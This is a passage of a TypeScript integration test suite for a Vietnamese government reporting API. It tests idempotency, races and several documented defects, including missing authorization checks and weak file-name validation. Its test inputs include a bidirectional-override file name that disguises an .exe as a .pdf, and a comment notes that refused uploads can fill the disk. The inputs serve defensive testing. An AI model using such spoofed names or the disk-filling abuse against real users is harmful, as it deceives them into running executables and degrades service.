      problem(await fx.monitoring().post('/api/v1/reports/issued', { ...issue, period: '2017-Q4' }, key), 422, 'Idempotency-Key');
      expect((await fx.inspector().get(issued(first.body.reportId))).body.revisions).toHaveLength(1);
    });

    it('writes once when the same key is sent twice at once', async () => {
      const before = await reportingHead();
      const key = { 'idempotency-key': 'k-twice-at-once' };
      const body = { dutyId: 'bao-cao-quy', period: '2017-Q3', attachment: file('Q3') };
      const both = await Promise.all([0, 1].map(() => fx.officer('h-ba-thuoc').post(submissions(), body, key)));
      expect(both.map((a) => a.status)).toEqual([201, 201]);
      expect(both[0].body.eventId).toBe(both[1].body.eventId);
      expect(both.map((a) => a.headers.get('idempotent-replayed')).sort()).toEqual(['true', null].sort());
      expect((await reportingHead()) - before).toBe(1);
    });
  });

  describe('races', () => {
    it('gives concurrent re-issues consecutive revisions, never one number twice; of two first issues one is refused', async () => {
      const issue = { ...issueRequest, period: '2017-Q2', directiveId };
      const first = await fx.monitoring().post('/api/v1/reports/issued', issue);
      expect(first.body.revision).toBe(1);
      const reissues = await Promise.all(
        ['Lý do A', 'Lý do B', 'Lý do C'].map((reason) => fx.monitoring().post('/api/v1/reports/issued', { ...issue, reason })),
      );
      expect(reissues.map((a) => a.status)).toEqual([201, 201, 201]);
      expect(reissues.map((a) => a.body.revision).sort()).toEqual([2, 3, 4]);
      const read = await fx.inspector().get(issued(first.body.reportId));
      expect(read.body.revisions.map((r: Body) => r.revision)).toEqual([1, 2, 3, 4]);

      const fresh = { ...issueRequest, period: '2017-M9', directiveId };
      const racing = await Promise.all([0, 1].map(() => fx.monitoring().post('/api/v1/reports/issued', fresh)));
      expect(racing.map((a) => a.status).sort()).toEqual([201, 400]);
      problem(
        racing.find((a) => a.status === 400)!,
        400,
        'reason',
      );
      const one = await fx.inspector().get(issued(racing.find((a) => a.status === 201)!.body.reportId));
      expect(one.body.revisions.map((r: Body) => r.revision)).toEqual([1]);
    });

    it('urges once per key when the run is asked twice at once, and not again after', async () => {
      const runs = await Promise.all([0, 1].map(() => admin().post('/api/v1/admin/urging/run', {})));
      expect(runs.map((r) => r.status)).toEqual([200, 200]);
      const issuedNow = runs[0].body.issued + runs[1].body.issued;
      expect(runs[0].body.found).toBeGreaterThan(0);
      expect(issuedNow).toBe(runs[0].body.found);
      const all = (await fx.inspector().get('/api/v1/reminders?limit=1000')).body.reminders.filter((r: Body) => r.kind !== 'manual');
      expect(all).toHaveLength(issuedNow);
      expect(new Set(all.map((r: Body) => r.key)).size).toBe(all.length);
      const before = await reportingHead();
      expect((await admin().post('/api/v1/admin/urging/run', {})).body.issued).toBe(0);
      expect(await reportingHead()).toBe(before);
    });
  });

  describe('defects found by this pass', () => {
    /** An answer that is not a server failure; a refusal names the field. */
    const answered = (answer: ApiResponse, field: string) => {
      expect(answer.status).toBeLessThan(500);
      if (answer.status >= 400) problem(answer, 400, field);
    };

    // DEFECT 1 (calendar.controller.ts; contracts/src/reporting-duties.ts calendarQuery): `year` may be 1990–2100
    // but WorkingCalendar knows 2000–2199 and throws a RangeError, answered 500.
    it('answers GET /api/v1/calendar?year=1995 without a 5xx (400 naming year)', async () => {
      answered(await fx.officer('h-ba-thuoc').get('/api/v1/calendar?year=1995'), 'year');
    });

    // DEFECT 1 (calendar.controller.ts dayQuery): any YYYY-MM-DD is taken; outside 2000–2199 WorkingCalendar throws, 500.
    it('answers GET /api/v1/calendar/day for 1999-12-31 and 9999-12-31 without a 5xx (400 naming date)', async () => {
      for (const date of ['1999-12-31', '0000-01-01', '9999-12-31'])
        answered(await fx.officer('h-ba-thuoc').get(`/api/v1/calendar/day?date=${date}`), 'date');
    });

    // DEFECT 1 (duties.controller.ts regime(), duty-periods.ts dueDateOf): a schedule whose due dates reach 2200 throws
    // RangeError, 500 — even `until=2199-12-31`, since December 2199's report falls due in January 2200.
    it('answers GET /api/v1/reporting/regimes/{id}?until=2199-12-31 or 2300-01-01 without a 5xx (400 naming until)', async () => {
      for (const until of ['2199-12-31', '2300-01-01'])
        answered(await fx.officer('h-ba-thuoc').get(`/api/v1/reporting/regimes/${directiveId}?until=${until}`), 'until');
    });

    // DEFECT 1 (reporting-service.ts compliance → compliance.ts dutyInstances): `to` past 2199 answers 500, and
    // `to=9999-12-31` answers 400 naming `period` ("10000-Q1"), a field the request does not have.
    it('answers GET /api/v1/reporting/compliance?to=2200-06-30 / 9999-12-31 without a 5xx, naming to', async () => {
      answered(await fx.officer('h-ba-thuoc').get('/api/v1/reporting/compliance?from=2017-01-01&to=2200-06-30'), 'to');
      answered(await fx.officer('h-ba-thuoc').get('/api/v1/reporting/compliance?from=2017-01-01&to=9999-12-31'), 'to');
    });

    // DEFECT 1 (reporting-service.ts rollup/issueContent): a period in 2200 or later, with any open-ended regime, answers
    // 500 on the roll-up, the draft export and the issue — the issue after signing checkpoints for it (defect 3).
    it('answers a roll-up, a draft and an issue for 2200-Q1 without a 5xx (400 naming period), signing nothing', async () => {
      answered(await fx.inspector().get('/api/v1/reports/rollup?period=2200-Q1'), 'period');
      answered(await fx.inspector().get('/api/v1/reports/export?period=2200&format=csv'), 'period');
      const id = `so-ldtbxh~${directiveId}~2200-Q1~decree09`;
      const before = await reportCheckpoints(id);
      answered(await fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, period: '2200-Q1', directiveId }), 'period');
      expect(await reportCheckpoints(id)).toBe(before);
    });

    // DEFECT 2 (duties.controller.ts submit(): attachments.put before commands.execute): a submission the decider
    // refuses (not a reporter, period not begun, other frequency, …) still stores its file, up to 3 MiB, in the
    // never-rebuilt `reporting-attachments` collection — any agency officer can fill the disk with refused POSTs.
    it('stores no file for a refused submission', async () => {
      const text = 'Sở Y tế không báo cáo theo chế độ quý';
      await refused(
        () => fx.officer('so-yt').post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file(text) }),
        400,
        'agencyId',
      );
      await refused(
        () => fx.officer('h-ba-thuoc').post(submissions(), { dutyId: 'bao-cao-quy', period: '2099-Q1', attachment: file(`${text} 2`) }),
        400,
        'period',
      );
      expect(await attachmentDoc(sha(text))).toBeNull();
      expect(await attachmentDoc(sha(`${text} 2`))).toBeNull();
    });

    // DEFECT 3 (issued-reports.ts prepare(): checkpoints.take before the decider): a re-issue refused for want of a
    // reason signs a checkpoint of every store named `report <id>` all the same.
    it('signs no checkpoint for a re-issue it refuses', async () => {
      const before = await reportCheckpoints(reportId);
      await refused(() => fx.monitoring().post('/api/v1/reports/issued', { ...issueRequest, directiveId }), 400, 'reason');
      expect(await reportCheckpoints(reportId)).toBe(before);
    });

    // DEFECT 4 (issued-reports.controller.ts issue(): `knownAt`/`checkpoints` taken from the fresh prepare(), not the
    // event): an Idempotency-Key replay answers another knownAt and other checkpoints than the first answer, and signs
    // new checkpoints each time.
    it('answers an Idempotency-Key replay of POST /api/v1/reports/issued with the first answer, signing nothing', async () => {
      const key = { 'idempotency-key': 'k-issue-replay' };
      const issue = { ...issueRequest, period: '2017-Q4', directiveId };
      const first = await fx.monitoring().post('/api/v1/reports/issued', issue, key);
      expect(first.status).toBe(201);
      const checkpoints = await reportCheckpoints(first.body.reportId);
      const again = await fx.monitoring().post('/api/v1/reports/issued', issue, key);
      expect(again.headers.get('idempotent-replayed')).toBe('true');
      expect(again.body).toEqual(first.body);
      expect(await reportCheckpoints(first.body.reportId)).toBe(checkpoints);
    });

    // DEFECT 5 (reminders.controller.ts send(): `assignmentId` is never checked; without `directiveId` the office rule
    // is asked about no directive): Sở Y tế, which neither monitors nor issued 4308/UBND-VX (and is refused 403 when
    // it names the directive), pins its own "reminder" on an assignment of 4308 that Sở LĐ-TB&XH monitors by leaving
    // `directiveId` out; it shows on that assignment's timeline.
    it('refuses a reminder about an assignment of a directive the office does not monitor', async () => {
      const assignment = lead('2', 'h-ba-thuoc');
      await refused(
        () =>
          fx
            .monitoring('so-yt')
            .post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', directiveId, assignmentId: assignment, text: 'Đôn đốc giả' }),
        403,
      );
      await refused(
        () => fx.monitoring('so-yt').post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', assignmentId: assignment, text: 'Đôn đốc giả' }),
        403,
      );
      const timeline = await fx.monitoring().get(`/api/v1/audit/assignments/${assignment}/timeline`);
      expect(timeline.body.events.filter((e: Body) => e.source === 'r' && e.actor.agencyId === 'so-yt')).toEqual([]);
    });

    // DEFECT 5 (same place): an assignment that does not exist, or is another agency's, is recorded as given.
    it('refuses a reminder naming an unknown assignment, or one the reminded agency does not hold, naming assignmentId', async () => {
      await refused(
        () => fx.monitoring().post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', directiveId, assignmentId: 'khong-co', text: 'x' }),
        400,
        'assignmentId',
      );
      await refused(
        () =>
          fx
            .monitoring()
            .post('/api/v1/reminders', { agencyId: 'h-ba-thuoc', directiveId, assignmentId: lead('2', 'h-quan-hoa'), text: 'x' }),
        400,
        'assignmentId',
      );
    });

    // DEFECT 6 (contracts/src/reporting-duties.ts attachmentRequest.fileName: /[\\/\u0000-\u001f]/): DEL and the C1
    // controls pass though the message promises "without … control characters".
    it('refuses DEL and C1 control characters in a file name', async () => {
      for (const fileName of ['a\u007f.pdf', 'a\u0085b.pdf', 'a\u009bb.pdf'])
        await refused(
          () =>
            fx
              .officer('h-ba-thuoc')
              .post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file(fileName, { fileName }) }),
          400,
          'attachment.fileName',
        );
    });

    // DEFECT 6 (same place): bidirectional overrides pass, so "báo cáo\u202Efdp.exe" is offered for download and
    // shown as "báo cáoexe.pdf" — the classic extension spoof.
    it('refuses bidirectional override characters in a file name', async () => {
      for (const fileName of ['báo cáo\u202Efdp.exe', 'a\u2066b.pdf', 'a\u200Fb.pdf'])
        await refused(
          () =>
            fx
              .officer('h-ba-thuoc')
              .post(submissions(), { dutyId: 'bao-cao-quy', period: '2017-Q1', attachment: file(fileName, { fileName }) }),
          400,
          'attachment.fileName',
        );
    });

    // DEFECT 7 (reporting/domain/src/duties/set-regime.ts: `duties.${i}.from`): every other problem names a field as a
    // JSON path, `duties[0].deadline.days`; this one names `duties.0.from`.
    it('names a duty starting before the directive as duties[0].from', async () => {
      await refused(
        () => fx.monitoring().put(`/api/v1/reporting/regimes/${directiveId}`, { duties: [{ ...quarterly, from: '2017-02-09' }] }),
        400,
        'duties[0].from',
      );
    });

    // DEFECT 8 (duties.controller.ts submit(): the duty is looked up in the current regime before the command, whose
    // handler would find the key's event): once the regime changes, a retry with the same Idempotency-Key is refused
    // 400 "no reporting duty" though the first request was taken — the client cannot learn that it was.
    it('answers a submission retried with its Idempotency-Key after the regime changed with the first answer', async () => {
      const otherRegime = (id: string) => ({ duties: [{ ...quarterly, id, reporters: ['h-ba-thuoc'] }] });
      expect((await fx.monitoring().put(`/api/v1/reporting/regimes/${otherId}`, otherRegime('bao-cao-cu'))).status).toBe(200);
      const key = { 'idempotency-key': 'k-after-regime-change' };
      const body = { dutyId: 'bao-cao-cu', period: '2017-Q1', attachment: file('cũ') };
      const first = await fx.officer('h-ba-thuoc').post(submissions(otherId), body, key);
      expect(first.status).toBe(201);
      expect((await fx.monitoring().put(`/api/v1/reporting/regimes/${otherId}`, otherRegime('bao-cao-moi'))).status).toBe(200);
      const again = await fx.officer('h-ba-thuoc').post(submissions(otherId), body, key);
      expect([again.status, again.headers.get('idempotent-replayed')]).toEqual([201, 'true']);
      expect(again.body.eventId).toBe(first.body.eventId);
    });
  });
});
